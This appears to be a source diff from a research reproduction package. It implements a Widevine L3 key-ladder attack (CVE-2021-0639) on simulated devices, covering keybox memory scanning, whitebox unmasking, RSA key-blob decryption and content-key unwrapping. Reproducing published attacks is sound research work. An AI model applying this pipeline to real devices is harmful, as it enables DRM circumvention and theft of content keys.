@@ -1,0 +1,211 @@
+"""The key-ladder attack of §IV-D (CVE-2021-0639).
+
+Recovers DRM-free content keys on a discontinued L3 device using only
+what an attacker with full device control observes:
+
+1. **Keybox recovery** — scan the DRM process's memory for the keybox
+   structure (magic number + CRC), recover the whitebox mask from the
+   module's constant table, and invert the static XOR: the 128-bit AES
+   device key falls out (insecure storage of sensitive information,
+   CWE-922).
+2. **Device RSA key recovery** — read the provisioned key blob from the
+   device's persistent storage (root access) and strip the storage
+   encryption, whose key derives from the recovered device key.
+3. **Content-key recovery** — intercept license responses at the
+   ``_oecc`` boundary and replay the ladder offline: RSA-OAEP-unwrap the
+   session key, run the CMAC KDF over the dumped derivation context,
+   and AES-CBC-unwrap every content key.
+
+The implementation touches *only* attacker-observable surfaces: memory
+regions, hooked buffers, the persistent store, network captures. It
+never reads Python-level secrets out of the simulation objects.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.android.device import AndroidDevice
+from repro.core.monitor import DrmApiMonitor
+from repro.crypto.kdf import derive_key, derive_session_keys
+from repro.crypto.modes import cbc_decrypt
+from repro.crypto.rsa import RsaPrivateKey, oaep_decrypt
+from repro.instrumentation.memscan import find_whitebox_mask, scan_for_keybox
+from repro.license_server.protocol import LicenseResponse, ProtocolError
+from repro.ott.app import OttApp, PlaybackResult
+from repro.widevine.keybox import Keybox
+from repro.widevine.oemcrypto import LABEL_STORAGE
+from repro.widevine.storage import apply_whitebox_mask
+
+__all__ = ["KeyLadderAttack", "KeyLadderAttackResult"]
+
+
+@dataclass
+class KeyLadderAttackResult:
+    """Everything the attack recovered for one app."""
+
+    service: str
+    device_model: str
+    keybox_recovered: bool = False
+    device_id: bytes | None = None
+    device_key: bytes | None = None
+    rsa_recovered: bool = False
+    rsa_fingerprint: bytes | None = None
+    licenses_observed: int = 0
+    content_keys: dict[bytes, bytes] = field(default_factory=dict)
+    playback: PlaybackResult | None = None
+    notes: list[str] = field(default_factory=list)
+
+    @property
+    def succeeded(self) -> bool:
+        return bool(self.content_keys)
+
+
+class KeyLadderAttack:
+    """Runs the full §IV-D pipeline against one app on one device."""
+
+    def __init__(self, device: AndroidDevice):
+        if not device.rooted:
+            raise PermissionError(
+                "the DRM threat model grants full device control; root the "
+                "device first (device.rooted = True)"
+            )
+        self.device = device
+
+    # -- step 1: keybox ------------------------------------------------------
+
+    def recover_keybox(self) -> Keybox | None:
+        """Memory-scan the DRM process for the keybox.
+
+        On L3 the structure sits whitebox-masked next to its constant
+        table: invert the static XOR. On an uncompromised L1 the scan
+        finds nothing — the TEE never maps the keybox into scannable
+        memory. After a TEE break (see
+        :func:`repro.widevine.storage.simulate_tee_compromise`) the raw
+        keybox appears in a dump region with no mask table, and is used
+        as-is.
+        """
+        process = self.device.drm_process
+        matches = scan_for_keybox(process)
+        if not matches:
+            return None
+        scanned = Keybox.parse(matches[0].data)
+        mask = find_whitebox_mask(process)
+        if mask is None:
+            # No whitebox table: the scanned structure is unmasked
+            # (e.g. a TEE memory dump).
+            return scanned
+        return Keybox(
+            device_id=scanned.device_id,
+            device_key=apply_whitebox_mask(scanned.device_key, mask),
+            key_data=scanned.key_data,
+        )
+
+    # -- step 2: device RSA key --------------------------------------------------
+
+    def recover_device_rsa_key(
+        self, keybox: Keybox, origin: str
+    ) -> RsaPrivateKey | None:
+        """Decrypt the persisted provisioning blob with the
+        keybox-derived storage key."""
+        blob = self.device.persistent_store.get(f"widevine/rsa/{origin}")
+        if blob is None or blob[:4] != b"WVST":
+            return None
+        storage_key = derive_key(
+            keybox.device_key, LABEL_STORAGE, keybox.device_id, 128
+        )
+        try:
+            rsa_blob = cbc_decrypt(storage_key, blob[4:20], blob[20:])
+            return RsaPrivateKey.import_secret(rsa_blob)
+        except ValueError:
+            return None
+
+    # -- step 3: content keys -----------------------------------------------------
+
+    @staticmethod
+    def unwrap_license(
+        rsa_key: RsaPrivateKey, license_bytes: bytes
+    ) -> dict[bytes, bytes]:
+        """Replay the ladder offline over one captured license."""
+        try:
+            license_msg = LicenseResponse.parse(license_bytes)
+        except ProtocolError:
+            return {}
+        try:
+            session_key = oaep_decrypt(rsa_key, license_msg.wrapped_session_key)
+        except ValueError:
+            return {}
+        derived = derive_session_keys(session_key, license_msg.derivation_context)
+        recovered: dict[bytes, bytes] = {}
+        for wrapped in license_msg.keys:
+            try:
+                key = cbc_decrypt(derived.encryption, wrapped.iv, wrapped.wrapped_key)
+            except ValueError:
+                continue
+            if len(key) == 16:
+                recovered[wrapped.key_id] = key
+        return recovered
+
+    def harvest_offline_licenses(
+        self, rsa_key: RsaPrivateKey, origin: str
+    ) -> dict[bytes, bytes]:
+        """Unwrap every *persisted offline license* of an app origin.
+
+        Offline viewing makes the long-term compromise worse: licenses
+        sit on flash indefinitely, so an attacker who breaks the ladder
+        once recovers keys for everything ever downloaded — no live
+        playback or hooking needed.
+        """
+        recovered: dict[bytes, bytes] = {}
+        prefix = f"widevine/keyset/{origin}/"
+        for path, blob in self.device.persistent_store.items():
+            if path.startswith(prefix):
+                recovered.update(self.unwrap_license(rsa_key, blob))
+        return recovered
+
+    # -- the full pipeline ------------------------------------------------------------
+
+    def run(self, app: OttApp, *, title_id: str | None = None) -> KeyLadderAttackResult:
+        """Trigger a playback under monitoring and work the ladder."""
+        result = KeyLadderAttackResult(
+            service=app.profile.service,
+            device_model=self.device.spec.model,
+        )
+
+        monitor = DrmApiMonitor(self.device)
+        with monitor.attached():
+            result.playback = app.play(title_id)
+            license_dumps = monitor.oecc.dumps_for("_oecc10_load_keys", "in")
+        result.licenses_observed = len(license_dumps)
+        if not license_dumps:
+            result.notes.append(
+                "no license crossed the Widevine boundary during playback "
+                "(custom DRM, or playback denied)"
+            )
+
+        keybox = self.recover_keybox()
+        if keybox is None:
+            result.notes.append(
+                "keybox not found in process memory (TEE-backed L1, or scan "
+                "defeated)"
+            )
+            return result
+        result.keybox_recovered = True
+        result.device_id = keybox.device_id
+        result.device_key = keybox.device_key
+
+        rsa_key = self.recover_device_rsa_key(keybox, app.profile.package)
+        if rsa_key is None:
+            result.notes.append(
+                "no provisioned RSA key blob for this app origin "
+                "(provisioning failed or never happened)"
+            )
+            return result
+        result.rsa_recovered = True
+        result.rsa_fingerprint = rsa_key.public.fingerprint()
+
+        for blob in license_dumps:
+            result.content_keys.update(self.unwrap_license(rsa_key, blob))
+        if not result.content_keys and license_dumps:
+            result.notes.append("license captured but no key unwrapped")
+        return result
